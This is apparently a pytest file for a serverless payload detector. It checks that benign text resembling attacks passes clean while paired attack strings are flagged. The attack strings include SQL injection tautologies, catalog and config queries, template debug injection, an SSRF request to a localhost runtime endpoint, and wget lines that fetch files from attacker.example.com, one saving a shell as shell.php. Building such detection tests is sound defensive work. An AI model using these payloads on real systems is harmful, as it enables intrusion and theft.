"""faasguard.payloads: benign values that read like payloads stay clean (issue 15: the
runtime guard must not block them), and the attacks next to them are still found by the
same rule. Each pair is checked with both backends."""

from __future__ import annotations

import pytest

from faasguard.payloads import detect
from faasguard.payloads.engine import hyperscan_available, libinjection_checks

BACKENDS = ["re"] + (["hyperscan"] if hyperscan_available() else [])
needs_libinjection = pytest.mark.skipif(
    libinjection_checks() is None, reason="libinjection-python not installed"
)

# (benign value, attack value, what must find the attack)
PAIRS = [
    # a logic word after a quote is a whole word; markup's `"order">` is not `" or der >`
    ('<div class="order">Order</div> renders twice in Safari', 'x" or "a">"b', "sqli.tautology"),
    # a comparison word stands apart from its operand: `"And his` is not `h is`
    ('"And his too," said Lowe.', "' or username like '%", "sqli.tautology"),
    # IS compares with NULL/TRUE/FALSE only
    (
        'Where is the Emerald City? he enquired; "and who is Oz?"',
        "' and email IS NULL; --",
        "sqli.tautology",
    ),
    # a complete SELECT in prose is a question about SQL; one that breaks out or stands
    # alone is a payload
    (
        "SELECT count(*) FROM orders WHERE status = 'open' is slow on prod (takes 116s)",
        "1 AND (SELECT * FROM Users) = 1",
        "sqli.select_from",
    ),
    (
        "SELECT count(*) FROM orders WHERE status = 'open' is slow on prod (takes 116s)",
        "select name from accounts;",
        "sqli.select_from",
    ),
    # catalog tables of DB2 and SQL Server
    (
        "DB2 tips: the SYSCAT views list what a user may read",
        "select * from syscat.tabauth;",
        "sqli.catalog",
    ),
    # a fetch piped into a filter is a command line; a fetch alone is what a payload runs
    (
        "curl -s https://api.example.com/v1/orders | jq '.items[] | .id'",
        "wget https://attacker.example.com/rce_vuln.txt",
        "cmdi.redirect_tool",
    ),
    (
        "curl -s https://api.example.com/v1/orders | jq '.items[] | .id'",
        "wget https://attacker.example.com/shell.txt -O shell.php",
        "cmdi.redirect_tool",
    ),
    # {% raw %} renders nothing; {% debug %} dumps the context
    ("{% raw %} does not escape in my template?", "<pre>{% debug %}</pre>", "ssti.engine"),
    # localhost followed by a template placeholder is no URL
    (
        "endpoint4.data0.value = http://localhost:##{TAGGING_GRPC_PORT}##",
        "http://localhost:9001/2018-06-01/runtime/invocation/next",
        "ssrf.internal_host",
    ),
]

# libinjection's verdict counts only where the value has SQL syntax (grammar.HINTS) and is
# not a whole statement left open (grammar.STATEMENT_START / STATEMENT_CLOSED)
LIBINJECTION_PAIRS = [
    ("what does 'or' mean in logic", "x' or x or 'x"),
    ("Please delete the create - it's increase.", "') or ('x')=('x"),
    ('"And again," says mademoiselle with more tight and angry nods.', "1) or (1"),
    ("if (a < b && c > d) { return amount; }", "') or ('x')=('x"),
    (
        "SELECT count(*) FROM orders WHERE status = 'open' is slow on prod (takes 116s)",
        "select current_setting('config_file');",
    ),
]


@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(("benign", "attack", "source"), PAIRS)
def test_benign_clean_and_attack_found_by_the_same_rule(
    backend: str, benign: str, attack: str, source: str
) -> None:
    assert detect(benign, backend=backend) == []
    assert source in [d.source for d in detect(attack, backend=backend)]


@needs_libinjection
@pytest.mark.parametrize("backend", BACKENDS)
@pytest.mark.parametrize(("benign", "attack"), LIBINJECTION_PAIRS)
def test_libinjection_counts_only_on_sql_syntax(backend: str, benign: str, attack: str) -> None:
    assert detect(benign, backend=backend) == []
    found = detect(attack, backend=backend)
    assert [(d.cls, d.source) for d in found] == [("sqli", "libinjection")]


def test_without_libinjection_the_patterns_alone_answer() -> None:
    assert detect("select current_setting('config_file');", libinjection=False) == []
    assert [d.cls for d in detect("x' or 1=1--", libinjection=False)] == ["sqli"]
